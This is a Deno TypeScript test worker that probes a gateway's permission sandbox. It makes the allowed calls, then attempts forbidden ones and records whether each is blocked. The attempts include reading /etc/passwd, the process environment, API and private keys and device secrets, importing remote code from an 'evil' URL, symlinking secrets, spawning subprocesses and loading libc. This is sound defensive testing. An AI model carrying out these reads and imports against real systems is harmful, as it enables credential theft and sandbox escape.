/** Stands where the gateway's worker stands, tries whatever it should not, and tells how it went. */

import { connect } from "node:net";
import { DatabaseSync } from "node:sqlite";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { GatewaySpec, WorkerRequest } from "../../../src/process/protocol.ts";

/** What came of each attempt: `allowed`, or the error's name and message. */
export type Outcomes = Readonly<Record<string, string>>;

const port = self as unknown as {
  onmessage: (event: MessageEvent<WorkerRequest>) => void;
  postMessage(message: unknown): void;
};

port.onmessage = async ({ data }) => {
  if (data.kind !== "prepare") return;
  const outcomes = {
    ...await tryAll(allowed(data.spec)),
    ...await tryAll(evil(data.spec)),
  };
  port.postMessage({ kind: "failed", message: JSON.stringify(outcomes) });
};
port.postMessage({ kind: "loaded" });

type Attempts = Readonly<Record<string, () => unknown>>;

async function tryAll(attempts: Attempts): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      outcomes[name] = "allowed";
    } catch (error) {
      outcomes[name] = `${(error as Error).name}: ${(error as Error).message}`;
    }
  }
  return outcomes;
}

/** Each of these is a part of the gateway's work. */
function allowed({ config: { broker, backend, store } }: GatewaySpec): Attempts {
  return {
    "allowed: the broker": async () =>
      (await Deno.connect({ hostname: broker.host, port: broker.port })).close(),
    "allowed: the broker by node:net": () => connectNode(broker.host, broker.port),
    "allowed: the backend": async () => await (await fetch(backend.url)).body?.cancel(),
    "allowed: a port behind the proxy": () =>
      Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
    "allowed: to read and write the database": () => {
      const database = new DatabaseSync(store.database);
      database.exec("CREATE TABLE hostile (a); DROP TABLE hostile;");
      database.close();
    },
    "allowed: to look at the database's file": () => Deno.statSync(store.database),
  };
}

function evil({ config }: GatewaySpec): Attempts {
  return {
    ...network(config),
    ...files(config),
    ...system(config),
  };
}

function network({ broker, backend, api }: GatewaySpec["config"]): Attempts {
  const elsewhere = "192.0.2.1"; // TEST-NET-1: should it ever be allowed, it goes nowhere
  return {
    "another host": () => Deno.connect({ hostname: elsewhere, port: broker.port }),
    "another host by fetch": () => fetch(`http://${elsewhere}/`),
    "another host by TLS": () => Deno.connectTls({ hostname: elsewhere, port: 443 }),
    "another host by node:net": () => connectNode(elsewhere, broker.port),
    "another port of the broker's": () => Deno.connect({ hostname: broker.host, port: 1 }),
    "another port of the backend's": () =>
      fetch(Object.assign(new URL(backend.url), { port: "10" })),
    "a name's address": () => Deno.resolveDns("example.com", "A"),
    "a name's address by connecting": () => Deno.connect({ hostname: "example.com", port: 443 }),
    "listening on every address": () => Deno.listen({ hostname: "0.0.0.0", port: 0 }).close(),
    "listening in the API's place": () =>
      Deno.listen({ hostname: api.host, port: api.port }).close(),
    "a Unix socket": () => Deno.connect({ transport: "unix", path: "/run/docker.sock" }),
    "remote code": () => import(String(new URL("https://example.com/evil.ts"))),
  };
}

function files({ broker, api, store }: GatewaySpec["config"]): Attempts {
  const data = dirname(store.database);
  const site = dirname(data);
  return {
    "reading /etc/passwd": () => Deno.readTextFileSync("/etc/passwd"),
    "reading /etc/passwd by node:fs": () => readFileSync("/etc/passwd"),
    "reading the API key": () => Deno.readTextFileSync(api.keyFile),
    "reading the API's private key": () => Deno.readTextFileSync(api.key),
    "reading the gateway's private key": () => Deno.readTextFileSync(broker.key),
    "reading the settings": () => Deno.readTextFileSync(join(site, "gateway.toml")),
    "reading a device's secret": () =>
      Deno.readTextFileSync(join(site, "devices/sensor_001/secret")),
    "reading the device authority's key": () =>
      Deno.readTextFileSync(join(site, "certs/device-ca.key")),
    "reading the process's environment": () => Deno.readTextFileSync("/proc/self/environ"),
    "listing the site": () => [...Deno.readDirSync(site)],
    "writing the settings": () => Deno.writeTextFileSync(join(site, "gateway.toml"), ""),
    "writing into the site": () => Deno.writeTextFileSync(join(site, "evil"), ""),
    "writing beside the database": () => Deno.writeTextFileSync(join(data, "evil"), ""),
    "writing a temporary file": () => Deno.makeTempFileSync(),
    "a link to a secret": () => Deno.symlinkSync(api.keyFile, store.database + "-link"),
    "a second name for a secret": () => Deno.linkSync(api.keyFile, store.database),
    "a database elsewhere": () => new DatabaseSync(join(data, "evil.db")),
    "a database attached": () =>
      new DatabaseSync(store.database).exec(`ATTACH '${join(data, "evil.db")}' AS evil`),
    "a copy of the database": () =>
      new DatabaseSync(store.database).exec(`VACUUM INTO '${join(data, "evil.db")}'`),
    "local code": () => import(String(join(site, "evil.ts"))),
  };
}

function system({ store }: GatewaySpec["config"]): Attempts {
  return {
    "an environment variable": () => Deno.env.get("PATH"),
    "the whole environment": () => Deno.env.toObject(),
    "an environment variable to be set": () => Deno.env.set("PATH", "/evil"),
    "a subprocess": () => new Deno.Command("/bin/true").outputSync(),
    "a subprocess by node:child_process": () => execFileSync("/bin/true", { env: {} }),
    "a signal to another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
    "a foreign library": () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}),
    "an extension of SQLite": () => {
      const database = new DatabaseSync(store.database, { allowExtension: true });
      database.loadExtension("/lib/x86_64-linux-gnu/libc.so.6");
    },
    "the host's name": () => Deno.hostname(),
    "the user's id": () => Deno.uid(),
    "a worker that may more": () =>
      new Worker(import.meta.url, { type: "module", deno: { permissions: { run: true } } }),
    "asking for more": () => {
      const { state } = Deno.permissions.requestSync({ name: "read", path: "/etc" });
      if (state !== "granted") throw new Deno.errors.NotCapable(state);
    },
  };
}

function connectNode(host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port }, () => {
      socket.destroy();
      resolve();
    });
    socket.on("error", reject);
  });
}
